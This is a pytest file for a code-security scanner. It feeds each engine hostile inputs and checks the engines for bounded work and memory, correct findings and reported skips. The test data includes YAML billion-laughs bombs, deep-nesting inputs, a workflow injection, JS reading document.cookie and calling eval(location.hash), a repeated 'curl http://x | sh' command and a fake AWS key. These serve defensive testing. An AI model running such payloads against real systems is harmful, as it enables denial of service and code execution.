"""Hostile content against each engine, in-process: bounded work, bounded memory, findings or a reported skip.

Every case runs in a fresh interpreter so that `ru_maxrss` is the peak of that
one scan (plus the interpreter and the input itself). Work is counted, not timed
(tests/work.py), after a scan of a one-line file has loaded the engine and its
rules: for the patterns and secrets engines one unit per 4096 regex steps and per
Python call or loop iteration; for the Python engine, whose hostile cases recurse
to the recursion limit, one per function call.
The input is built in the child from a Python expression, so no megabytes of
test data live in the repository.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

pytestmark = pytest.mark.slow  # every case here takes seconds: `pytest -m "not slow"` skips them
AWS_KEY = "'AKIA' + 'HQST' * 4"  # an expression: the child builds the key at run time
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
# Units of work per scan of the patterns or secrets engine: the heaviest cases measured ~5.9M
# (huge-block-sequence, many-documents); a billion laughs expanded, or a quadratic pass over a
# megabyte, takes billions.
WORK = 20_000_000
# Function calls per scan of the Python engine: 31.4M for 100k lines (bandit visits every node);
# quadratic in the lines would be billions.
CALLS = 100_000_000
MEGABYTES = 400  # peak resident size of the whole child; the heaviest case peaks near 280

CHILD = r'''
import json, resource, sys
from aiguard import config
from aiguard.changes import ChangedFile
from aiguard.scanners import ScanContext, load

engine, path, build, budget, root = sys.argv[1:6]
sys.path.insert(0, root)
from tests.work import BudgetExceeded, calls, work
AKIA = 'AKIA' + 'HQST' * 4
content = eval(build)
if isinstance(content, str):
    content = content.encode('utf-8', 'surrogateescape')
f = ChangedFile(path, '0' * 40, content)
ctx = ScanContext('/nonexistent', config.Config())
mod = load(engine)
mod.scan([ChangedFile(path, '1' * 40, b'x = 1\n')], ScanContext('/nonexistent', config.Config()))
try:
    units, found = (calls if engine == 'python' else work)(lambda: mod.scan([f], ctx), int(budget))
except BudgetExceeded as e:
    sys.exit(f'{engine} on {path}: {e}')
print(json.dumps({
    'work': units,
    'peak_mb': resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
    'lines': len(f.lines),
    'findings': [[x.rule_id, x.line, x.column, x.message] for x in found],
    'skips': [[s.engine, s.reason] for s in ctx.skipped],
}))
'''


def measure(engine: str, path: str, build: str) -> dict:
    """Scan the content `build` evaluates to with one engine in a fresh process."""
    proc = subprocess.run(
        (sys.executable, '-c', CHILD, engine, path, build, str(CALLS if engine == 'python' else WORK), ROOT),
        capture_output=True, text=True,
        timeout=900,  # a hang guard only: the work budget is the bound
    )
    assert proc.returncode == 0 and 'Traceback' not in proc.stderr, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out['peak_mb'] < MEGABYTES, out['peak_mb']
    for rule_id, line, column, message in out['findings']:
        assert 1 <= line <= max(out['lines'], 1) and column >= 1, (rule_id, line, column)
        assert 'AKIAHQST' not in message
    return out


def rules(out: dict) -> set[str]:
    return {f[0] for f in out['findings']}


def skip_reasons(out: dict, engine: str) -> list[str]:
    return [reason for e, reason in out['skips'] if e == engine]


# --- patterns engine: YAML ---------------------------------------------------------

# Nine levels of nine aliases: expanded, 9**9 (387 million) strings.
LAUGHS = (
    "'lol0: &l0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\\n'"
    " + ''.join(f'lol{i}: &l{i} [' + ', '.join([f'*l{i - 1}'] * 9) + ']\\n' for i in range(1, 10))"
)
WORKFLOW_INJECTION = (
    "'on: issues\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
    "      - run: echo \"${{ github.event.issue.title }}\"\\n'"
)
MANIFEST = "'apiVersion: v1\\nkind: Pod\\nmetadata:\\n  name: x\\n'"
HOST_PATH = "'spec:\\n  volumes:\\n    - name: root\\n      hostPath:\\n        path: /\\n'"
COMPOSE_CAPS = "'services:\\n  api:\\n    image: nginx:1.27\\n    cap_add: [SYS_ADMIN]\\n'"

YAML_CASES = [
    # id, path, content, rules that must still be found, whether the structural checks are skipped
    ('billion-laughs-workflow', '.github/workflows/ci.yml', f'{WORKFLOW_INJECTION} + {LAUGHS}', {'GHA002'}, False),
    ('billion-laughs-k8s', 'deploy/pod.yaml', f'{MANIFEST} + {LAUGHS} + {HOST_PATH}', {'K8S005'}, False),
    ('billion-laughs-compose', 'docker-compose.yml', f'{LAUGHS} + {COMPOSE_CAPS}', {'COMPOSE004'}, False),
    ('alias-cycle', 'deploy/pod.yaml', f"{MANIFEST} + 'loop: &a\\n  self: *a\\n' + {HOST_PATH}", {'K8S005'}, False),
    ('deep-flow-nesting', '.github/workflows/ci.yml',
     f"{WORKFLOW_INJECTION} + 'permissions: write-all\\nx: ' + '[' * 100_000 + ']' * 100_000 + '\\n'",
     {'GHA003'}, True),
    ('deep-flow-mappings', 'deploy/pod.yaml',
     f"{MANIFEST} + 'x: ' + '{{a: ' * 50_000 + '1' + '}}' * 50_000 + '\\n' + {HOST_PATH}", set(), True),
    ('deep-block-nesting', 'deploy/pod.yaml',
     f"{MANIFEST} + ''.join(' ' * i + 'k:\\n' for i in range(900)) + ' ' * 900 + 'v: 1\\n' + {HOST_PATH}",
     {'K8S005'}, False),
    ('deeper-than-libyaml-allows', 'deploy/pod.yaml',
     f"{MANIFEST} + ''.join(' ' * i + 'k:\\n' for i in range(1500)) + ' ' * 1500 + 'v: 1\\n'", set(), True),
    ('deep-compact-sequences', 'deploy/pod.yaml', f"{MANIFEST} + 'x:\\n  ' + '- ' * 100_000 + 'a\\n'", set(), True),
    ('huge-flow-sequence', 'docker-compose.yml',
     "'services:\\n  api:\\n    cap_add: [' + 'CHOWN, ' * 120_000 + 'SYS_ADMIN]\\n'", {'COMPOSE004'}, False),
    ('huge-block-sequence', 'deploy/pod.yaml',
     f"{MANIFEST} + 'items:\\n' + '  - a\\n' * 150_000 + {HOST_PATH}", {'K8S005'}, False),
    ('many-documents', 'deploy/pod.yaml', f"{MANIFEST} + '---\\n' * 100_000 + {MANIFEST} + {HOST_PATH}",
     {'K8S005'}, False),
    ('tab-indented', '.github/workflows/ci.yml',
     "'on: issues\\npermissions: write-all\\njobs:\\n\\tx:\\n\\t\\tsteps: []\\n'", {'GHA003'}, True),
    ('unclosed-flow', 'docker-compose.yml', "'services:\\n  api:\\n    network_mode: host\\n    ports: [\\n'",
     {'COMPOSE002'}, True),
    ('undefined-alias-quoting-a-key', 'deploy/pod.yaml',
     f"{MANIFEST} + 'x: *' + AKIA + '\\nsecurityContext:\\n  privileged: true\\n'", {'K8S001'}, True),
    ('not-utf8', 'deploy/pod.yaml', f"{MANIFEST}.encode() + b'note: caf\\xe9 \\xff\\xfe\\n' + {HOST_PATH}.encode()",
     {'K8S005'}, False),
    ('over-the-yaml-size-limit', 'docker-compose.yml',
     f"{COMPOSE_CAPS} + '    network_mode: host\\n' + '# padding\\n' * 300_000", {'COMPOSE002'}, True),
]


@pytest.mark.parametrize(('path', 'build', 'expected', 'skipped'),
                         [c[1:] for c in YAML_CASES], ids=[c[0] for c in YAML_CASES])
def test_hostile_yaml(path: str, build: str, expected: set[str], skipped: bool) -> None:
    out = measure('patterns', path, build)
    assert expected <= rules(out), out['findings']
    reasons = skip_reasons(out, 'patterns')
    if skipped:
        # the line rules ran; the structural checks say why they did not
        assert len(reasons) == 1 and reasons[0].startswith('structural YAML checks not run: '), reasons
        assert 'AKIAHQST' not in reasons[0]
    else:
        assert reasons == []


def test_yaml_problem_names_the_line() -> None:
    out = measure('patterns', '.github/workflows/ci.yml', "'on: issues\\njobs:\\n\\tx: 1\\n'")
    assert skip_reasons(out, 'patterns') == [
        'structural YAML checks not run: not valid YAML (line 3: found character that cannot start any token)']


# --- patterns engine: code ---------------------------------------------------------

MINIFIED = "''.join('var a%d=document.cookie+fetch(\"/u/\"+q[%d]),b%d={k:[%d,(%d)]};' % ((i,) * 5) for i in range(33_000))"

CODE_CASES = [
    ('5mb-one-line-js', 'src/bundle.js', f"{MINIFIED} + 'eval(location.hash);' + {MINIFIED}", {'JS001'}),
    ('5mb-one-line-js-clean', 'src/bundle.js', MINIFIED + ' * 2', set()),
    ('50k-open-brackets', 'src/app.js', "'f(' + '([{' * 50_000 + '\\neval(location.hash);\\n'", {'JS001'}),
    ('50k-open-calls', 'src/app.js', "'jwt.verify(t, ' + '[' * 50_000 + '\\n' + 'Function(' * 50_000", set()),
    ('unclosed-strings', 'src/app.js', "'jwt.sign(x, \"' * 100_000", set()),
    ('unclosed-templates', 'src/app.js', "'el.innerHTML = `${' * 100_000 + '`SELECT a FROM b ${x' * 50_000", set()),
    ('tf-unbalanced-open', 'infra/main.tf',
     "'resource \"aws_security_group\" \"x\" {\\n  ingress {\\n    cidr_blocks = [\"0.0.0.0/0\"]\\n"
     "    from_port = 22\\n    to_port = 22\\n' + '{' * 50_000 + '\\n' + 'ingress {' * 30_000", {'TF001'}),
    ('tf-unbalanced-close', 'infra/main.tf', "'}' * 100_000 + 'actions = [\"*\"]\\n' * 1000", set()),
    ('tf-dense-statements', 'infra/main.tf', "'statement { actions = [\"*\"] resources = [\"*\"] ' * 50_000",
     {'TF004'}),
    ('dockerfile-long-from', 'Dockerfile', "'FROM ' + 'a' * 1_000_000 + '\\nFROM node\\nUSER root\\n'",
     {'DOCKER001', 'DOCKER002'}),
    ('shell-one-line', 'scripts/x.sh', "'curl http://x | sh; ' * 100_000", set()),
]


@pytest.mark.parametrize(('path', 'build', 'expected'), [c[1:] for c in CODE_CASES], ids=[c[0] for c in CODE_CASES])
def test_hostile_code_for_patterns(path: str, build: str, expected: set[str]) -> None:
    out = measure('patterns', path, build)
    assert expected <= rules(out), out['findings']
    assert out['skips'] == []


# --- python engine --------------------------------------------------------------------

PY_SKIPS = [
    # id, content, the start of the skip reason
    # too deep for the parser or bandit: the statement is named, the others are analysed
    ('deep-unary', "'x = ' + '-' * 100_000 + '1\\n'", 'line 1 too deeply nested to parse'),
    ('deep-binop-for-bandit', "'x = 1' + ' + 1' * 1500 + '\\n'", 'line 1 too deeply nested to analyse'),
    ('deep-attributes', "'x = a' + '.b' * 100_000 + '\\n'", 'line 1 too deeply nested to parse'),
    ('deep-lambdas', "'x = ' + 'lambda: ' * 5000 + '1\\n'", 'line 1 too deeply nested to parse'),
    ('deep-parens', "'x = ' + '(' * 5000 + '1' + ')' * 5000 + '\\n'", 'line 1 does not parse: too many nested'),
    ('deep-blocks', "''.join(' ' * i + 'if x:\\n' for i in range(120)) + ' ' * 120 + 'eval(x)\\n'",
     'syntax error line'),
    ('python-2', "'import pickle\\nprint \"hi\"\\nexec \"pickle.loads(x)\"\\n'", 'syntax error line 2'),
    ('syntax-error', "'def f(:\\n    eval(input())\\n'", 'syntax error line 1'),
    ('null-byte', "'import pickle\\n' + 'x = 1\\n' * 9000 + 'y = \"\\0\"\\npickle.loads(x)\\n'", 'syntax error'),
    ('inconsistent-tabs', "'if x:\\n\\tif y:\\n        eval(z)\\n'", 'syntax error line 3'),
    ('bad-utf8-without-cookie', "b'x = \"\\xff\\xfe\"\\neval(input())\\n'", 'syntax error line'),
    ('unknown-coding', "b'# coding: no-such-codec\\neval(input())\\n'", 'syntax error'),
    ('utf16', "'\\ufeffeval(input())\\n'.encode('utf-16')", 'syntax error'),
]


@pytest.mark.parametrize(('build', 'reason'), [c[1:] for c in PY_SKIPS], ids=[c[0] for c in PY_SKIPS])
def test_python_engine_reports_a_skip(build: str, reason: str) -> None:
    out = measure('python', 'mod.py', build)
    assert out['findings'] == []
    reasons = skip_reasons(out, 'python')
    assert len(reasons) == 1 and reasons[0].startswith(reason), reasons


PY_FINDS = [
    # id, content, (rule, line) that must be found
    ('bom', "'\\ufeffimport pickle\\npickle.loads(x)\\n'", ('PY007', 2)),
    ('crlf-and-tabs', "'import pickle\\r\\nif x:\\r\\n\\tif y:\\r\\n\\t\\tpickle.loads(x)\\r\\n'", ('PY007', 4)),
    ('latin-1-cookie', "b'# -*- coding: latin-1 -*-\\nname = \"caf\\xe9\"\\nimport pickle\\npickle.loads(x)\\n'",
     ('PY007', 4)),
    ('bom-and-latin-cookie-free', "b'\\xef\\xbb\\xbf# coding: utf-8\\nimport pickle\\npickle.loads(x)\\n'",
     ('PY007', 3)),
    ('form-feed', "'import pickle\\n\\x0c\\ndef f():\\n    \\x0c\\n    pickle.loads(x)\\n'", ('PY007', 5)),
    ('100k-lines', "'x = 1\\n' * 100_000 + 'eval(input())\\n'", ('PY003', 100_001)),
    ('200k-element-literal', "'x = [' + ','.join(['1'] * 200_000) + ']\\neval(input())\\n'", ('PY003', 2)),
    ('long-string-concat', "'x = \"a\" ' + '\"b\" ' * 100_000 + '\\neval(input())\\n'", ('PY003', 2)),
]


@pytest.mark.parametrize(('build', 'expected'), [c[1:] for c in PY_FINDS], ids=[c[0] for c in PY_FINDS])
def test_python_engine_scans_odd_but_valid_files(build: str, expected: tuple[str, int]) -> None:
    out = measure('python', 'mod.py', build)
    assert list(expected) in [f[:2] for f in out['findings']], out['findings']
    assert out['skips'] == []


# --- secrets engine -------------------------------------------------------------------

NEAR_MISS = (
    "'AKIAQQQQ ghp_abc xoxb-1- sk_live_ AIza glpat- eyJhbGciOi password= token: "
    "-----BEGIN https://u:@h AKIA' + 'Q' * 15 + ' '"
)
SECRET_CASES = [
    # id, path, content, [rule, line, column] expected (or None: nothing found)
    ('100k-char-near-misses', 'notes.txt', f'({NEAR_MISS}) * 1000', None),
    ('100k-char-line-one-key', 'notes.txt', f"({NEAR_MISS}) * 500 + 'k=\"' + AKIA + '\" ' + ({NEAR_MISS}) * 500",
     'column-of-key'),
    ('200k-short-lines', 'data.txt', "'\\n'.join('k%d=v' % i for i in range(200_000)) + '\\nK = \"' + AKIA + '\"\\n'",
     ['SEC002', 200_001, 6]),
    ('60k-password-near-misses', 'settings.txt',
     "'\\n'.join('password = \"' + 'Zx9' * (i % 7) + '\"' for i in range(60_000))", None),
    ('base64-blob-one-line', 'blob.txt',
     "'data = \"' + __import__('base64').b64encode(bytes(range(256)) * 3000).decode() + '\"\\n'", None),
    ('base64-wrapped', 'blob.pem.txt',
     "'\\n'.join(__import__('base64').b64encode(bytes((i * 7 + j) % 256 for j in range(57))).decode()"
     " for i in range(15_000))", None),
    ('minified-bundle-with-key', 'static/app.min.js',
     "''.join('var a%d=\"%s\",b%d={apiKey:\"x%d\",token:t[%d]};' % (i, 'Q' * (i % 40), i, i, i) "
     "for i in range(20_000)) + 'var k=\"' + AKIA + '\";'", 'column-of-key'),
    ('only-newlines', 'empty.txt', "'\\n' * 1_000_000", None),
    ('control-characters', 'ctl.txt', "''.join(chr(i) for i in range(1, 32)) * 10_000 + 'K=\"' + AKIA + '\"'",
     'column-of-key'),
]


@pytest.mark.parametrize(('path', 'build', 'expected'), [c[1:] for c in SECRET_CASES],
                         ids=[c[0] for c in SECRET_CASES])
def test_hostile_text_for_secrets(path: str, build: str, expected: list | str | None) -> None:
    out = measure('secrets', path, build)
    assert out['skips'] == []
    if expected is None:
        assert out['findings'] == []
        return
    keys = [f for f in out['findings'] if f[0] == 'SEC002']
    assert len(keys) == 1, out['findings']
    if expected == 'column-of-key':
        build_line = f'[l for l in ({build}).split(chr(10)) if AKIA in l][0].index(AKIA) + 1'
        column = eval(build_line, {'AKIA': 'AKIA' + 'HQST' * 4})  # aiguard: ignore[PY003] the test's own expression
        assert keys[0][2] == column
    else:
        assert keys[0][:3] == expected
    assert 'AKIA…(20 chars)' in keys[0][3]
